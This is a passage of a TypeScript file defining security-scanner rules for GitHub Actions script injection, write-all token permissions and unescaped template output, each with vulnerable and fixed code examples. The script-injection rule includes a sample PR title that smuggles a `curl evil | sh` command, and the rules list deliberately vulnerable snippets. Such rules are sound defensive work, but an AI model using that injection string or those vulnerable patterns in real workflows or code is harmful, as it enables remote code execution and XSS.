  ...actions('actions/script-injection', 'Untrusted event data in a run script', 'high', ['CWE-78', 'CWE-94'], [A03], '`${{ github.event.* }}` (titles, bodies, branch names, …) is expanded inside a run: script.', 'The expression is pasted into the shell script before it runs: a PR title like `"; curl evil | sh; "` executes with the workflow\'s token.', 'Pass it through an environment variable (`env: TITLE: ${{ github.event.pull_request.title }}`) and use "$TITLE" in the script.', 'run: echo "${{ github.event.pull_request.title }}"', 'env:\n  TITLE: ${{ github.event.pull_request.title }}\nrun: echo "$TITLE"'),
  ...actions('actions/write-all-permissions', 'Workflow token with write-all permissions', 'medium', ['CWE-250'], [A05], 'permissions: write-all.', 'Every step, including third-party actions, can push code, create releases and change settings.', 'Grant only what the job needs (`permissions: { contents: read }`).', 'permissions: write-all', 'permissions:\n  contents: read'),
  // Templates
  ...templates('templates/autoescape-disabled', 'Template auto-escaping turned off', 'high', ['CWE-79', 'CWE-116'], 'A template turns auto-escaping off ({% autoescape false %}, {% autoescape off %}).', 'Every variable in the block is written as raw HTML: a value with <script> runs in the browser.', 'Keep auto-escaping on; mark only sanitized values safe.', '{% autoescape false %}{{ bio }}{% endautoescape %}', '{{ bio }}'),
  ...templates('templates/unescaped-output', 'Unescaped output in a template', 'medium', ['CWE-79'], 'Raw output: EJS <%- value %>, Handlebars/Mustache {{{ value }}}, Jinja/Nunjucks/Django |safe, Pug !{value}.', 'The value is written as HTML: if it comes from users, it is stored or reflected XSS.', 'Use the escaping form (<%= %>, {{ }}), and sanitize HTML you must render (DOMPurify, bleach).', '<div><%- user.bio %></div>', '<div><%= user.bio %></div>'),
];

function secret(name: string, title: string, severity: Severity, cwes: string[], description: string, noncompliant: string, fix: string): OwnRule[] {
  return [
    {
      id: `secrets/${name}`, language: 'any', title, category: 'security', severity, cwe: cwes, owasp: ['A07:2021-Identification and Authentication Failures'],
      description,
      why: 'Everyone who can read the repository, its forks, clones and CI logs, now and in its history, has the credential. Removing it in a later commit does not revoke it.',
      fix: `Revoke or rotate it first, then remove it. ${fix} Placeholders and documentation examples are rated low.`,
      noncompliant, compliant: 'const value = process.env.SERVICE_TOKEN;', helpUri: `${CS}Secrets_Management_Cheat_Sheet.html`,
    },
  ];
}

function docker(id: string, title: string, severity: Severity, cwes: string[], description: string, why: string, fix: string, noncompliant: string, compliant: string): OwnRule[] {
  return [{ id, language: 'docker', title, category: 'security', severity, cwe: cwes, owasp: [A05], description, why, fix, noncompliant, compliant, helpUri: `${CS}Docker_Security_Cheat_Sheet.html` }];
}

function actions(id: string, title: string, severity: Severity, cwes: string[], owasp: string[], description: string, why: string, fix: string, noncompliant: string, compliant: string): OwnRule[] {
  return [{ id, language: 'github-actions', title, category: 'security', severity, cwe: cwes, owasp, description, why, fix, noncompliant, compliant, helpUri: 'https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions' }];
}

function templates(id: string, title: string, severity: Severity, cwes: string[], description: string, why: string, fix: string, noncompliant: string, compliant: string): OwnRule[] {
  return [{ id, language: 'templates', title, category: 'security', severity, cwe: cwes, owasp: [A03], description, why, fix, noncompliant, compliant, helpUri: `${CS}Cross_Site_Scripting_Prevention_Cheat_Sheet.html` }];
}
